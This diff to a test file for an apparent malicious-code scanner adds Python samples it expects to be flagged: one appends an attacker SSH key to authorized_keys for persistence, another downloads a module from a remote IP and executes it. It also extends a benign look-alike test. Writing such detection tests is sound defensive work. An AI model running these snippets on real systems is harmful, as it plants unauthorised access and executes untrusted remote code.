@@ -17,6 +17,29 @@ const RANK: Record<Severity, number> = { low: 0, medium: 1, high: 2, critical: 3
 
 const PROGRAMS: { name: string; least: Severity; rule: string; source: string }[] = [
   {
+    name: 'an attacker key appended to ~/.ssh/authorized_keys through a pathlib path built with /',
+    least: 'high',
+    rule: 'persistence',
+    source: `from pathlib import Path
+ak = Path.home() / ".ssh" / "authorized_keys"
+with ak.open("a") as f:
+    f.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIO attacker\\n")
+`,
+  },
+  {
+    name: 'module source downloaded to a temp file and loaded with importlib',
+    least: 'critical',
+    rule: 'dropper',
+    source: `import importlib.util, urllib.request, tempfile, os
+src = urllib.request.urlopen("https://198.51.100.50/m.py").read()
+p = os.path.join(tempfile.mkdtemp(), "m.py")
+open(p, "wb").write(src)
+spec = importlib.util.spec_from_file_location("m", p)
+mod = importlib.util.module_from_spec(spec)
+spec.loader.exec_module(mod)
+`,
+  },
+  {
     name: 'the whole environment put into an email body by set_content and sent over SMTP',
     least: 'high',
     rule: 'exfiltration',
@@ -364,7 +387,12 @@ for (const program of PROGRAMS) {
 }
 
 test('their benign look-alikes stay below high', () => {
-  const benign = `import os, glob, shutil, pyperclip, socket, sys, zipfile, smtplib
+  const benign = `import os, glob, shutil, pyperclip, socket, sys, zipfile, smtplib, importlib.util, requests
+from pathlib import Path
+with (Path.home() / ".ssh" / "authorized_keys").open() as keys:
+    print(len(keys.readlines()))
+open("weather.json", "w").write(requests.get("https://api.example.invalid/w").text)
+plugin = importlib.util.spec_from_file_location("plugin", "plugins/local.py")
 from email.message import EmailMessage
 report = EmailMessage(); report.set_content("nightly build finished: " + str(len(glob.glob("dist/*.whl"))) + " wheels")
 with smtplib.SMTP("localhost") as relay:
